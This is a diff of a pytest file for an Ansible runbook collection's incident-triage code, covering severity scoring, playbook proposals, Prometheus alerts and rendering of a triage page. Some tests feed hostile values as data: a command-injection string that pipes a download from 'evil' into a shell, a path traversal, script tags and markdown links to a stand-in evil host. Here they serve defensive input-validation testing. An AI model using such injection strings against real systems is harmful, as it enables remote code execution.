@@ -7,10 +7,21 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from ansible_collections.pafar.runbook.plugins.module_utils._triage import signs as triage
 from ansible_collections.pafar.runbook.plugins.module_utils._triage.page import page
+from ansible_collections.pafar.runbook.plugins.module_utils._triage.prometheus_signs import (
+    alert_signs,
+    prometheus_signs,
+    series_signs,
+)
+from ansible_collections.pafar.runbook.plugins.module_utils._triage.sign import (
+    SCENARIOS,
+    Sign,
+    scenarios_of,
+    severity_of,
+)
+from ansible_collections.pafar.runbook.plugins.module_utils._triage.signs import Importance, signs_of, signs_of_all
 
-SITE = triage.Importance({"the door": "P0", "maps": "P2"}, {"nginx": "P0", "mailer": "P2"})
+SITE = Importance({"the door": "P0", "maps": "P2"}, {"nginx": "P0", "mailer": "P2"})
 AT = datetime(2026, 11, 24, 8, 30, tzinfo=UTC)
 
 
@@ -59,9 +70,9 @@ def reached(target: str, *states: str, layer: str = "protocol", judge: str = "")
 
 
 def weighed(survey: dict[str, Any]) -> tuple[str, str]:
-    signs = triage.signs_of("web1", {"resources": resources(), **survey}, SITE)
-    found = triage.scenarios_of(signs)
-    return triage.severity_of(signs), found[0]["playbook"][10:-4] if found else ""
+    signs = signs_of("web1", {"resources": resources(), **survey}, SITE)
+    found = scenarios_of(signs)
+    return severity_of(signs), found[0]["playbook"][10:-4] if found else ""
 
 
 @pytest.mark.parametrize(
@@ -115,8 +126,8 @@ def test_one_sign(survey, severity, scenario):
 
 
 def test_a_host_that_gives_no_answer_is_a_sign():
-    signs = triage.signs_of("web2", {"msg": "Failed to connect."}, SITE)
-    assert (triage.severity_of(signs), signs[0].text) == ("P1", "web2 could not be looked at: Failed to connect")
+    signs = signs_of("web2", {"msg": "Failed to connect."}, SITE)
+    assert (severity_of(signs), signs[0].text) == ("P1", "web2 could not be looked at: Failed to connect")
 
 
 SILENT = {"trouble_reading": "Could not reach the engine: nobody listens there.", "error": "EngineError"}
@@ -135,7 +146,7 @@ SILENT = {"trouble_reading": "Could not reach the engine: nobody listens there."
 @pytest.mark.parametrize("error", ["EngineError", "EngineHangs"])
 def test_an_engine_that_does_not_answer(survey, severity, known, error):
     silent = {**SILENT, "error": error}
-    signs = triage.signs_of("web1", {"services": silent, "logs": silent, **survey}, SITE)
+    signs = signs_of("web1", {"services": silent, "logs": silent, **survey}, SITE)
     told = [one for one in signs if "engine" in one.text]
     text = f"the engine could not be asked, {known}: Could not reach the engine: nobody listens there"
     assert [(one.severity, one.text, one.scenario) for one in told] == [(severity, text, "")], "told once"
@@ -143,7 +154,7 @@ def test_an_engine_that_does_not_answer(survey, severity, known, error):
 
 def test_nothing_is_rolled_back_without_an_engine():
     fresh = {"changes": {"changes": [{"age": 300, "what": "checked out 3f1c", "deploys": True}]}}
-    assert triage.scenarios_of(triage.signs_of("web1", {"services": SILENT, **fresh}, SITE)) == []
+    assert scenarios_of(signs_of("web1", {"services": SILENT, **fresh}, SITE)) == []
 
 
 AWAY, LOOKED_AT = {"unreachable": True, "msg": "Connection refused"}, {"resources": resources()}
@@ -163,16 +174,16 @@ AWAY, LOOKED_AT = {"unreachable": True, "msg": "Connection refused"}, {"resource
     ],
 )  # fmt: skip
 def test_hosts_that_are_not_reached(surveys, severity, texts):
-    signs = triage.signs_of_all(surveys, SITE)
-    assert (triage.severity_of(signs), [one.text for one in signs]) == (severity, texts)
+    signs = signs_of_all(surveys, SITE)
+    assert (severity_of(signs), [one.text for one in signs]) == (severity, texts)
 
 
 def test_what_was_just_deployed_is_the_likelier_cause_of_a_sick_service():
     sick = {"services": {"services": service("backend", "is unhealthy")}}
     fresh = {"changes": {"changes": [{"age": 300, "what": "containers were made: backend", "deploys": True}]}}
-    names = [one["playbook"] for one in triage.scenarios_of(triage.signs_of("web1", {**sick, **fresh}, SITE))]
+    names = [one["playbook"] for one in scenarios_of(signs_of("web1", {**sick, **fresh}, SITE))]
     assert names == ["playbooks/service_restart.yml", "playbooks/release_rollback.yml"]
-    assert triage.signs_of("web1", {"resources": resources(), **fresh}, SITE) == []
+    assert signs_of("web1", {"resources": resources(), **fresh}, SITE) == []
 
 
 @pytest.mark.parametrize(
@@ -181,14 +192,14 @@ def test_what_was_just_deployed_is_the_likelier_cause_of_a_sick_service():
 )
 def test_alerts(label, severity):
     alert = {"name": "X", "state": "firing", "severity": label, "summary": "s", "scenario": "disk_space"}
-    assert [one.severity for one in triage.alert_signs([alert, {**alert, "state": "pending"}])] == [severity]
+    assert [one.severity for one in alert_signs([alert, {**alert, "state": "pending"}])] == [severity]
 
 
 @pytest.mark.parametrize(("value", "severity"), [(0.7, "P0"), (0.06, "P1"), (0.011, "P2"), (0.0, "P3"), (None, "P3")])
 def test_series(value, severity):
     bounds = {"P0": 0.5, "P1": 0.05, "P2": 0.01}
     one = {"name": "failing", "value": value, "unit": "%", "severity": bounds, "scenario": ""}
-    assert triage.severity_of(triage.series_signs([one])) == severity
+    assert severity_of(series_signs([one])) == severity
 
 
 @pytest.mark.parametrize(
@@ -200,28 +211,28 @@ def test_series(value, severity):
     ],
 )
 def test_without_prometheus_we_are_blind(answer, texts):
-    signs = triage.prometheus_signs(answer)
+    signs = prometheus_signs(answer)
     assert [(one.severity, one.text) for one in signs] == [("P2", text) for text in texts]
 
 
 def test_what_may_be_proposed_is_every_playbook_of_a_scenario():
-    assert set(triage.SCENARIOS) == {path.stem for path in PLAYBOOKS.glob("*.yml")} - NO_SCENARIO
+    assert set(SCENARIOS) == {path.stem for path in PLAYBOOKS.glob("*.yml")} - NO_SCENARIO
 
 
 @pytest.mark.parametrize("name", ["x; curl evil|sh #", "../../tmp/x", "disk_space.yml", "triage", "`<img src=x>`"])
 def test_nothing_else_is_proposed(name):
     alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "s", "scenario": name}
     one = {"name": "failing", "value": 1, "unit": "", "severity": {"P1": 1}, "scenario": name}
-    signs = triage.prometheus_signs({"alerts": [alert], "series": [one]})
+    signs = prometheus_signs({"alerts": [alert], "series": [one]})
     assert [each.severity for each in signs] == ["P0", "P1"]
-    assert triage.scenarios_of(signs) == []
+    assert scenarios_of(signs) == []
     assert "ansible-playbook" not in told(signs)
     assert "No playbook mends what is severest above" in told(signs)
 
 
-def told(signs: list[triage.Sign], links: dict[str, str] | None = None, **surveys: Any) -> str:
+def told(signs: list[Sign], links: dict[str, str] | None = None, **surveys: Any) -> str:
     prometheus = {"alerts": [], "series": [{"name": "failing", "value": 0.123, "unit": "%"}]}
-    return page(triage.severity_of(signs), signs, triage.scenarios_of(signs), surveys, prometheus, links or {}, AT)
+    return page(severity_of(signs), signs, scenarios_of(signs), surveys, prometheus, links or {}, AT)
 
 
 def test_the_page():
@@ -229,7 +240,7 @@ def test_the_page():
         "resources": resources(disk=0.97), "services": {"services": service("nginx", "")}, "database": database(),
         "changes": {"changes": [{"age": 700, "what": "checked out 3f1c", "deploys": True}]},
     }  # fmt: skip
-    signs = triage.signs_of("web1", survey, SITE)
+    signs = signs_of("web1", survey, SITE)
     links = {"Grafana": "https://g.example/d/x?from={from}&to={to}", "Kibana": "https://k.example/{from_iso}"}
     text = told(signs, links, web1=survey)
     assert text.startswith("# Triage: P1 proposed, ")
@@ -245,7 +256,7 @@ def test_the_page():
 
 def test_foreign_text_is_text_on_the_page():
     nasty = "<script>x</script> [click](http://evil) ![p](http://evil/p.png) **bold** `code` | cell\n# title &lt;"
-    text = told([triage.Sign("P1", nasty, "web|1", "disk_space")], {"x](http://evil)": "https://ok.example/a b>c"})
+    text = told([Sign("P1", nasty, "web|1", "disk_space")], {"x](http://evil)": "https://ok.example/a b>c"})
     assert "<script>" not in text
     assert "](http://evil" not in text.replace("\\](", "")
     assert "\n# title" not in text
@@ -266,8 +277,8 @@ def test_foreign_text_is_text_on_the_page():
 def test_foreign_text_is_neither_mention_nor_link(text, shown):
     survey = {**LOOKED_AT, "changes": {"changes": [{"age": 700, "what": text, "deploys": True}]}}
     prometheus = {"alerts": [], "series": [{"name": text, "value": 1, "unit": text}]}
-    signs = [triage.Sign("P1", text, text, "disk_space")]
-    page_text = page("P1", signs, triage.scenarios_of(signs), {text: survey}, prometheus, {}, AT)
+    signs = [Sign("P1", text, text, "disk_space")]
+    page_text = page("P1", signs, scenarios_of(signs), {text: survey}, prometheus, {}, AT)
     assert text not in page_text
     assert page_text.count(shown) == 8, "sign, its host, what points to it, change, its host, series, unit, row"
 
